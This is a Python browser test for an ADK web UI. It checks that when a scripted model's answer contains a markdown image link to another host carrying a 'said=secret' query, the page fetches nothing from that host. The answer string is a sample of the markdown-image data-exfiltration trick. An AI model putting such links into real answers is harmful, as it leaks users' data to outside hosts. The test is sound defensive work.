"""ADK's web UI asks no other host, whatever the answer that it shows says."""

from pathlib import Path

import pytest
from fastapi import FastAPI, Request

from acc_ace.bootstrap import build_container
from acc_ace.config import Settings
from tests.e2e.browser import Browser, find_chromium
from tests.e2e.screenshot_adk_web import say
from tests.fakes.loopback import served
from tests.fakes.scripted_llm import ScriptedLlm
from tests.server.asgi import scripted_app

FAILED = "Network.loadingFailed"
SENT = "Network.requestWillBeSent"


def elsewhere(asked: list[str]) -> FastAPI:
    """Another host, which notes what it is asked for."""
    app = FastAPI()

    @app.get("/{path:path}")
    async def note(request: Request) -> None:
        asked.append(str(request.url))

    return app


@pytest.mark.browser
@pytest.mark.soak
def test_the_page_works_and_asks_no_other_host_for_what_an_answer_shows(tmp_path: Path) -> None:
    executable = find_chromium()
    if executable is None:
        pytest.skip("no Chromium is installed; apt-get install chromium")
    leaked: list[str] = []
    with served(elsewhere(leaked)) as other:
        answer = f"Look here: ![picture]({other}/leak.png?said=secret) it is."
        model = ScriptedLlm().on("generator", {"final_answer": answer})
        app = scripted_app(build_container(Settings(data_dir=tmp_path)), model)
        with served(app) as url, Browser(executable) as browser:
            browser.watch()
            browser.open(f"{url}/dev-ui/?app=acc_ace")
            say(browser, "Show me the picture.")
            browser.wait(lambda: "Look here:" in browser.text(), "the answer")
            blocked = {each["requestId"] for each in browser.recorded(FAILED)}
            asked = [
                each["request"]["url"]
                for each in browser.recorded(SENT)
                if each["requestId"] not in blocked
            ]
            styled = "document.querySelector('link[href^=\"./styles\"]').media"
            assert browser.evaluate(styled) == "all"
    assert {each for each in asked if not each.startswith((url, "data:", "blob:"))} == set()
    assert leaked == []
